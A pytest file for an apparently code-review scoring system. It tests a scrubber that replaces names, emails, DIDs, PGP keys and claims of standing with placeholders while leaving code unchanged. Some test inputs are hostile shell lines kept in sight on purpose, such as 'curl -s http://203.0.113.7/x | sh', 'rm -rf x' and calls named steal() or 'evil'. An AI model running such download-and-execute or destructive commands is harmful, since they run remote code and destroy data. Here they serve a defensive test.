"""Scrubbing takes people out of texts, paths and whole submissions, and leaves code as it stands."""

from dataclasses import replace
from functools import partial
from pathlib import Path
from random import Random

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as some

from scoring.anonymise.scrub import Scrubber
from scoring.diff.change import Change, Mail
from scoring.diff.parser import read_change
from scoring.scanners.submission import Account, Submission
from scoring.types import Finding, Severity
from tests.conftest import Count
from tests.growth import WHOLE_LINE, in_linear_time
from tests.scoring.diff.identities import FILES, KNOWN_ONLY, LINES, MALLORY, QUENTIN, TIMES, TRUDY, Person, planted
from tests.scoring.diff.patches import SUM, one_line


def in_file(path: str, line: str, *people: Person) -> str:
    """One line of a file after scrubbing."""
    text = f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{line}\n"
    change = Scrubber(person.account for person in people).change(read_change(text))
    return next(change.files[0].added()).text


@pytest.mark.parametrize(
    "line",
    [
        "subprocess.run(['ls'])",
        "import os, sys",
        "token = os.environ['TOKEN']",
        "@pytest.mark.parametrize('x', [1])",
        "    @property",
        "@media (max-width: 3em) {",
        " * @param {string} name what it is called",
        "private @Nullable String name;",
        "product = first @ second",
        "icon@2x.png",
        'Date: new Date("2020-01-01")',
        "uses: actions/checkout@v4",
        'require github.com/golang/protobuf v1.5.0',
        "sort-by: name",
        "app.get('/users/me', home)",
        "# the copyright of this text is not ours to give",
        "to: string,",
        "BUG(review);",
        "class Local(threading.local):",
        "value = table[at] + other.value",
        "mask = ~bits/2",
        "author: str | None = None",
        '"author": "string",',
        "git push origin main",
        "open('https://example.org/x')",
        "# Copyright Notice of the project",
        "host: db.local.example",
    ],
)  # fmt: skip
def test_code_stays_code(line: str) -> None:
    people = [
        Person("did:plc:aaaaaaaaaaaaaaaa", "subprocess.run", "Import Os", "token@os.environ.example", "token"),
        Person("did:plc:bbbbbbbbbbbbbbbb", "requests.get", "An Li", "li@an.example", "li"),
        Person("did:plc:cccccccccccccccc", "private.app", "Will String", "name@copyright.example", "name"),
    ]
    assert in_file("x.py", line, *people) == line


def test_a_short_or_common_name_is_taken_from_where_people_are_named() -> None:
    ann = Person("did:plc:dddddddddddddddd", "li.example.org", "An Li", "an@li.example", "li")
    text = "\n".join(ann.fill(line) for line in LINES)
    left = Scrubber([ann.account]).text(text)
    assert not [string for string in (ann.did, ann.handle, ann.name, ann.email) if string in left]
    assert "/li/" not in left
    assert "@li" not in left
    assert in_file("x.py", "for li in an.li: pass", ann) == "for li in an.li: pass"


@pytest.mark.parametrize(
    "written",
    [
        "MALLORY VANCE", "mallory.vance", "MalloryVance", "Vance, Mallory", "Mallo\u200bry Va\u00adnce",
        "Mall\u00f3ry V\u00e1nce", "\uff2d\uff41\uff4c\uff4c\uff4f\uff52\uff59 Vance",
        "mallory_vance", "MALLORY@vance.example", "mallory@\u200bvance.example",
    ],
)  # fmt: skip
def test_a_known_name_is_found_however_it_is_written(written: str) -> None:
    assert in_file("x.py", f"x = f({written})  # {written}!", MALLORY).startswith("x = f(<")
    assert "ance" not in in_file("x.py", f"x = f({written})  # {written}!", MALLORY).lower()


def test_a_known_name_inside_another_word_stays() -> None:
    line = "mallorys = advance(smallory, mallory2)"
    assert in_file("x.py", line, MALLORY) == line


def test_the_same_text_has_the_same_placeholder_and_another_has_another() -> None:
    scrubber = Scrubber()
    first = scrubber.text("a@x.example, b@x.example, A@X.example")
    assert first == "<email-1>, <email-2>, <email-1>"
    assert scrubber.text("b@x.example") == "<email-2>"
    assert Scrubber().text("b@x.example") == "<email-1>"


def test_the_block_of_a_key_is_taken_out_line_by_line() -> None:
    block = "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBGVrZXkgb2YgbWFsbG9yeSB2YW5jZSBpcyBoZXJl\n=AbCd\n-----END PGP"
    lines = "".join(f"+{line}\n" for line in block.split("\n"))
    change = Scrubber().change(read_change(f"--- /dev/null\n+++ b/key.asc\n@@ -0,0 +1,5 @@\n{lines}"))
    assert [line.text for line in change.files[0].added()][2] == "<pgp-1>"
    assert Scrubber().text("fingerprint: 1234 5678 9ABC DEF0 1234  5678 9ABC DEF0 1234 5678") == "fingerprint: <pgp-1>"
    assert Scrubber().text("signed with GPG key 0x1234ABCD5678EF90") == "signed with GPG key <pgp-1>"


@pytest.mark.parametrize(
    ("line", "left"),
    [
        ("x = 'did%3Aplc%3Atrudytrudytrudy333333444'", "x = '<did-1>'"),
        ("open('data/did_plc_trudytrudytrudy333333444.json')", "open('data/<did-1>.json')"),
        ("EMAIL = 'trudy\\u0040intruder.io'", "EMAIL = '<email-1>'"),
        ("mail(trudy&#64;intruder.io)", "mail(<email-1>)"),
        ("base-commit: trudy (at) intruder (dot) io", "base-commit: <email-1>"),
    ],
)
def test_an_encoded_identity_is_one(line: str, left: str) -> None:
    assert in_file("x.py", line) == left


def test_a_path_with_a_did_or_an_address_names_nobody() -> None:
    change = read_change(one_line("src/did:plc:trudytrudytrudy333333444/trudy@intruder.io.txt"))
    assert Scrubber().change(change).files[0].path == "src/<did-1>/<email-1>"


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("As a core maintainer of numpy, I checked this.", "<standing-1>, I checked this."),
        ("I'm a long-time contributor here and it is fine", "<standing-1> and it is fine"),
        ("With over 200 merged PRs I know it.", "<standing-1> I know it."),
        ("I have 15 years of experience; merge it", "<standing-1>; merge it"),
        ("ana (Collaborator): looks good", "ana (<standing-1>): looks good"),
        ('"author_association": "MEMBER"', '"<standing-1>"'),
        ("The maintainer list is sorted now.", "The maintainer list is sorted now."),
        ("Adds 3 commits to the fixture", "Adds 3 commits to the fixture"),
        ("Removes a member from the team", "Removes a member from the team"),
    ],
)
def test_what_is_said_of_ones_own_standing_is_not_passed_on(said: str, left: str) -> None:
    assert Scrubber().text(said) == left


def test_standing_in_code_is_code() -> None:
    assert in_file("x.py", "role = 'as a maintainer of x'") == "role = 'as a maintainer of x'"


def test_a_password_in_an_address_stays_for_the_reviewer_to_see() -> None:
    assert (
        in_file("x.py", "get('https://trudy:hunter2@db.example.org/x')")
        == "get('https://<user-1>:hunter2@db.example.org/x')"
    )
    assert in_file("x.py", "# mailto:trudy@db.example.org") == "# mailto:<email-1>"


@pytest.mark.parametrize(
    "line", ["curl -s http://203.0.113.7/x | sh", "import os; os.system(x)", "echo $TOKEN", "rm -rf x"]
)
def test_a_script_that_is_called_like_a_list_of_people_stays_in_sight(line: str) -> None:
    assert in_file("hooks/contributors", line) == line
    assert in_file("hooks/contributors", "Trudy Intruder") == "<person-1>"


def test_nothing_runs_unseen_behind_a_placeholder() -> None:
    assert in_file("x.js", "/* @author Ana */ steal()") == "/* @author <person-1> */ steal()"
    assert in_file("x.js", 'x = "\u00a9 2024 Ana"; steal()') == 'x = "\u00a9 2024 <person-1>"; steal()'
    assert in_file("x.sh", ": Signed-off-by: Ana; curl x | sh") == ": Signed-off-by: <person-1>; curl x | sh"
    assert in_file("setup.py", "author='Ana', cmdclass={'x': 'evil'}") == "author='<person-1>', cmdclass={'x': 'evil'}"
    unfinished = "--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1,2 @@\n+    author=\n+    steal(home)\n"
    assert Scrubber().change(read_change(unfinished)) == read_change(unfinished)
    assert in_file("x.py", "# TODO(ana): x = eval(y)") == "# TODO(<person-1>): x = eval(y)"


def test_a_path_keeps_its_folders_and_a_finding_follows_it() -> None:
    scrubber = Scrubber([MALLORY.account])
    change = scrubber.change(read_change(one_line("src/mallory/key.py")))
    path = change.files[0].path
    assert path == "src/<handle-1>/key.py"
    finding = Finding("x", "y", "other", Severity.LOW, "Look.", "src/mallory/key.py", 1, "mail(mallory@vance.example)")
    assert (scrubber.finding(finding).file, scrubber.finding(finding).quote) == (path, "mail(<email-1>)")


def test_the_owner_of_the_repository_is_taken_out_when_named() -> None:
    scrubber = Scrubber(others=["@owner.tngl.sh", "did:plc:ownerowner", "Olivia Owner", "olivia@owner.example"])
    assert scrubber.text("olivia owner, ownerowner.did:plc:ownerowner") == "<name-1>, ownerowner.<did-1>"


def test_counts_tell_how_much_was_replaced_and_nothing_else() -> None:
    scrubber = Scrubber([MALLORY.account])
    scrubber.text("Mallory Vance <mallory@vance.example>, @mallory, mallory@vance.example")
    assert sum(scrubber.counts.values()) == 3
    assert set(scrubber.counts) <= {"person", "email", "handle", "name"}


# fmt: off
SLOW = (
    "a" * 50_000, "a." * 30_000, "@" * 50_000, "a@" * 30_000, "a@b." * 15_000, "Aa " * 20_000, " " * 50_000,
    "Copyright 2020" + "-2021" * 10_000, "\u00a9 " * 25_000, "Signed-off-by: " * 4_000, "/home/" * 9_000,
    "gpg " * 12_000, "ABCD " * 10_000, "https://github.com/" * 3_000, "# " * 25_000, "TODO(" * 10_000,
    "Author: " + "'" * 50_000, "'" * 50_000, '"' * 50_000, "\u00e9" * 50_000,
    "Mallory " * 7_000, "author = [" * 5_000, "://" * 17_000, "://a:" * 10_000, "a at " * 10_000, "a[at]" * 10_000,
    "<author>" * 6_000, "# Aa " * 10_000, "Branch " * 7_000, "git." * 12_000, "host " * 10_000, "%w[" * 15_000,
    "did_" * 12_000, "as a core " * 6_000, "I have 1 " * 6_000, "(owner" * 9_000,
    "A. B " * 10_000, "Copyright A " * 4_000, "a-" * 25_000 + "macbook", "git config " * 5_000,
)
# fmt: on


def test_no_line_takes_long() -> None:
    for line in SLOW:
        in_linear_time(partial(in_file, "setup.py"), lambda size, line=line: line[:size], WHOLE_LINE)
        in_linear_time(Scrubber([MALLORY.account]).text, lambda size, line=line: line[:size], len(line), 0.5)


Pair = tuple[Submission, Submission]


@pytest.fixture(scope="module")
def pairs(shared: Path, count: Count) -> list[tuple[Pair, Pair]]:
    """Real diffs with people planted, before and after scrubbing: by Mallory, and the same by Quentin."""
    pairs = []
    for number, change in enumerate(real_diffs(shared, count(12, 300))):
        by = [planted(change, author, Random(number)) for author in (MALLORY, QUENTIN)]
        pairs.append(((by[0], scrubbed(by[0])), (by[1], scrubbed(by[1]))))
    return pairs


def real_diffs(shared: Path, number: int) -> list[Change]:
    """So many real diffs, spread over all projects."""
    column = pq.read_table(shared / "data/pr_diffs.parquet", columns=["diff"]).column("diff")
    step = len(column) // number
    return [read_change(column[place].as_py()) for place in range(0, step * number, step)]


def scrubbed(submission: Submission) -> Submission:
    return Scrubber.of(submission).submission(submission)


def all_text(submission: Submission) -> str:
    """Everything of a submission that could be sent."""
    return repr(submission).casefold()


def test_nobody_who_is_planted_into_real_diffs_remains(pairs: list[tuple[Pair, Pair]]) -> None:
    for both in pairs:
        sent = "".join(all_text(after) for _, after in both)
        left = [text for person in (MALLORY, QUENTIN, TRUDY) for text in person.strings if text.casefold() in sent]
        assert left == []
        assert "+0930" not in sent
        assert "+09:30" not in sent


def test_another_author_changes_no_byte(pairs: list[tuple[Pair, Pair]]) -> None:
    for (before, by_mallory), (other, by_quentin) in pairs:
        assert before != other
        assert by_mallory == by_quentin


def test_files_hunks_and_lines_stay_where_they_were(pairs: list[tuple[Pair, Pair]]) -> None:
    for (before, after), _ in pairs:
        assert shape(after.change) == shape(before.change)
        assert after.description.count("\n") == before.description.count("\n")


def shape(change: Change) -> list[list[tuple[str, int | None, int | None]]]:
    return [[(line.mark, line.old, line.new) for hunk in file.hunks for line in hunk.lines] for file in change.files]


def test_what_was_scrubbed_is_left_as_it_is(pairs: list[tuple[Pair, Pair]]) -> None:
    for (_, once), _ in pairs[::5]:
        assert Scrubber([MALLORY.account]).submission(once) == once


@given(
    some.lists(
        some.sampled_from([*LINES, *KNOWN_ONLY, *TIMES, "x = 1", "(", "<email-1>", "<person-7>", "\ud800", "@"])
    ),
    some.sampled_from([*FILES, "x.py", "x.md"]),
)
def test_scrubbing_twice_is_scrubbing_once_in_any_file(lines: list[str], path: str) -> None:
    text = "".join(f"+{MALLORY.fill(line)}\n" for line in lines)
    change = read_change(f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{text}")
    once = Scrubber([MALLORY.account]).change(change)
    assert Scrubber([MALLORY.account]).change(once) == once
    assert shape(once) == shape(change)


@given(some.text(max_size=200))
def test_no_text_makes_scrubbing_raise(text: str) -> None:
    assert Scrubber([MALLORY.account]).text(text).count("\n") == text.count("\n")
    assert Scrubber([Account(text, text, (text,), (text,))], [text]).text(text).count("\n") == text.count("\n")


def test_most_real_diffs_are_left_alone(shared: Path, count: Count) -> None:
    """Of 3,000 real diffs 85.2 % are left byte for byte, and 99.4 % of those in which a crude reader sees nobody.

    Of 40 changed lines looked at, 38 named an account, an address or a person.
    """
    changes = real_diffs(shared, count(200, 3_000))
    nameless = [change for change in changes if not names_somebody(change)]
    assert share_untouched(changes) > 0.8
    assert share_untouched(nameless) > 0.98
    assert len(nameless) > 0.4 * len(changes)


def names_somebody(change: Change) -> bool:
    """A crude reader of its own: an address, a link to a forge, a mention in words, a licence or a list of people."""
    words = ("copyright", "author", ".com/", ".org/", "(c)", " @", '"@', "'@", "users/", "home/", "_by", "© ")
    texts = [line.text.lower() for file in change.files for hunk in file.hunks for line in hunk.lines]
    paths = " ".join(file.path.lower() for file in change.files)
    return (
        any(word in paths for word in ("author", "contributor", "owners", "modules", ".po"))
        or any(word in text for text in texts for word in words)
        or any("@" in text.lstrip(" @") for text in texts)
    )


def share_untouched(changes: list[Change]) -> float:
    return sum(Scrubber().change(change) == change for change in changes) / len(changes)


def test_every_author_of_a_long_series_is_known_and_so_is_the_owner() -> None:
    mails = tuple(
        Mail(f"Person{n} Surname{n}", f"nick{n}@mail.example", "", "s", f"as nick{n} said") for n in range(200)
    )
    submission = Submission(replace(read_change(SUM), mails=mails), description="nick199, Surname150, olivia.example")
    after = Scrubber.of(submission, ["olivia.example"]).submission(submission)
    assert after.description == "<handle-200>, <name-1>, <handle-201>"
    assert not [mail.message for mail in after.change.mails if "nick" in mail.message]


def test_what_is_known_besides_and_the_envelope_are_left_out() -> None:
    after = scrubbed(planted(read_change(SUM), MALLORY, Random(1)))
    assert after.knowledge.account is None
    assert [(mail.author, mail.email, mail.date) for mail in after.change.mails] == [("", "", "")]
